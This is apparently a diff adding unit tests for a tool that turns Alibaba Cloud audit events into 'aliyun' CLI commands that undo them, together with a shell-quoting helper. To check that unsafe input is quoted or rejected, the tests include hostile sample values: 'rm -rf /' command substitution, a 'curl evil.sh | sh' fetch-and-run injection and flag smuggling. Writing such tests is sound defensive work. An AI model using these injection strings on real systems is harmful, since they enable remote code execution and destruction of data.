@@ -1,0 +1,178 @@
+import { describe, expect, it } from "vitest";
+import { at, makeEvent } from "@/lib/audit-event-factory";
+import { revertHint } from "./revert-hints";
+import { toResourceChanges } from "./resource-changes";
+import { shellQuote } from "./shell-quote";
+
+const w = (
+  name: string,
+  params: Record<string, unknown>,
+  extra: Partial<Parameters<typeof makeEvent>[0]> = {},
+) => makeEvent({ time: at(3, 6), name, rw: "Write", params, ...extra });
+
+describe("shellQuote", () => {
+  it("leaves plain words and quotes everything else safely", () => {
+    expect(shellQuote("i-bp1prodweb01ab9xz")).toBe("i-bp1prodweb01ab9xz");
+    expect(shellQuote("a b")).toBe("'a b'");
+    expect(shellQuote("$(rm -rf /)`x`;&|")).toBe("'$(rm -rf /)`x`;&|'");
+    expect(shellQuote("it's")).toBe(`'it'\\''s'`);
+    expect(shellQuote("--profile")).toBe("'--profile'");
+    expect(shellQuote("a\u0000b")).toBeUndefined();
+  });
+});
+
+describe("revertHint", () => {
+  it("suggests StartInstance for StopInstance", () => {
+    const stop = w("StopInstance", {
+      InstanceId: "i-bp1prodweb01ab9xz",
+      RegionId: "cn-hangzhou",
+      ForceStop: false,
+    });
+    expect(revertHint(stop, [stop])?.command).toBe(
+      "aliyun ecs StartInstance --region cn-hangzhou --InstanceId i-bp1prodweb01ab9xz",
+    );
+  });
+
+  it("revokes the exact security-group rule that was authorised", () => {
+    const e = w("AuthorizeSecurityGroup", {
+      SecurityGroupId: "sg-1",
+      IpProtocol: "tcp",
+      PortRange: "22/22",
+      SourceCidrIp: "0.0.0.0/0",
+    });
+    expect(revertHint(e, [])?.command).toBe(
+      "aliyun ecs RevokeSecurityGroup --region cn-hangzhou --SecurityGroupId sg-1 --IpProtocol tcp --PortRange 22/22 --SourceCidrIp 0.0.0.0/0",
+    );
+  });
+
+  it("detaches an attached policy (RAM is global: no region) and restarts logging", () => {
+    const attach = w(
+      "AttachPolicyToUser",
+      {
+        PolicyType: "System",
+        PolicyName: "AdministratorAccess",
+        UserName: "backup-admin",
+      },
+      { service: "Ram" },
+    );
+    expect(revertHint(attach, [])?.command).toBe(
+      "aliyun ram DetachPolicyFromUser --PolicyType System --PolicyName AdministratorAccess --UserName backup-admin",
+    );
+    const stop = w(
+      "StopLogging",
+      { Name: "prod-audit-trail" },
+      { service: "Actiontrail" },
+    );
+    expect(revertHint(stop, [])?.command).toBe(
+      "aliyun actiontrail StartLogging --region cn-hangzhou --Name prod-audit-trail",
+    );
+  });
+
+  it("sets a bucket back to its previous ACL when known, and says so when not", () => {
+    const before = makeEvent({
+      time: at(1, 1),
+      name: "GetBucketAcl",
+      params: { BucketName: "finance-reports-2026" },
+      response: {
+        AccessControlPolicy: { AccessControlList: { Grant: "private" } },
+      },
+    });
+    const put = w(
+      "PutBucketAcl",
+      { BucketName: "finance-reports-2026", "x-oss-acl": "public-read" },
+      { service: "Oss" },
+    );
+    expect(revertHint(put, [before, put])?.command).toBe(
+      "aliyun oss set-acl oss://finance-reports-2026 private -b",
+    );
+    expect(revertHint(put, [put])?.command).toBeUndefined();
+    expect(revertHint(put, [put])?.explanation).toMatch(
+      /not in the loaded events/,
+    );
+  });
+
+  it("recreates a deleted trail with the parameters of its creation in the window", () => {
+    const create = makeEvent({
+      time: at(0, 1),
+      name: "CreateTrail",
+      rw: "Write",
+      service: "Actiontrail",
+      params: {
+        Name: "prod-audit-trail",
+        OssBucketName: "prod-audit-archive-hz",
+        HostId: "x",
+      },
+    });
+    const del = w(
+      "DeleteTrail",
+      { Name: "prod-audit-trail" },
+      { service: "Actiontrail" },
+    );
+    expect(revertHint(del, [create, del])?.command).toBe(
+      "aliyun actiontrail CreateTrail --region cn-hangzhou --Name prod-audit-trail --OssBucketName prod-audit-archive-hz",
+    );
+    expect(revertHint(del, [del])?.command).toBeUndefined();
+  });
+
+  it("quotes hostile values and refuses values that could act as flags or carry control characters", () => {
+    const evil = w("StopInstance", { InstanceId: "i-1; curl evil.sh | sh" });
+    expect(revertHint(evil, [])?.command).toBe(
+      "aliyun ecs StartInstance --region cn-hangzhou --InstanceId 'i-1; curl evil.sh | sh'",
+    );
+    expect(
+      revertHint(w("StopInstance", { InstanceId: "--profile=x" }), [])?.command,
+    ).toBeUndefined();
+    expect(
+      revertHint(w("StopInstance", { InstanceId: "i\u0000" }), [])?.command,
+    ).toBeUndefined();
+  });
+
+  it("has no command for failed calls and restarts", () => {
+    expect(
+      revertHint(
+        w(
+          "StopInstance",
+          { InstanceId: "i-1" },
+          { errorCode: "IncorrectInstanceStatus" },
+        ),
+        [],
+      )?.command,
+    ).toBeUndefined();
+    expect(
+      revertHint(w("RestartDBInstance", { DBInstanceId: "rm-1" }), [])
+        ?.explanation,
+    ).toBe("A restart cannot be undone.");
+  });
+});
+
+describe("toResourceChanges", () => {
+  it("orders writes and diffs each against the previous change", () => {
+    const a = makeEvent({
+      time: at(0, 1),
+      name: "ModifyDBInstanceSpec",
+      rw: "Write",
+      service: "Rds",
+      params: { DBInstanceId: "rm-1", DBInstanceClass: "rds.mysql.s2.large" },
+    });
+    const b = makeEvent({
+      time: at(1, 1),
+      name: "ModifyDBInstanceSpec",
+      rw: "Write",
+      service: "Rds",
+      params: { DBInstanceId: "rm-1", DBInstanceClass: "rds.mysql.s3.large" },
+    });
+    const read = makeEvent({ time: at(0, 5), name: "DescribeDBInstances" });
+    const changes = toResourceChanges([b, read, a]);
+    expect(changes.map((c) => c.event.id)).toEqual([a.id, b.id]);
+    expect(changes[1]?.diff).toEqual([
+      {
+        key: "DBInstanceClass",
+        before: "rds.mysql.s2.large",
+        after: "rds.mysql.s3.large",
+      },
+    ]);
+    expect(revertHint(b, [a, b])?.command).toBe(
+      "aliyun rds ModifyDBInstanceSpec --region cn-hangzhou --DBInstanceId rm-1 --DBInstanceClass rds.mysql.s2.large",
+    );
+  });
+});
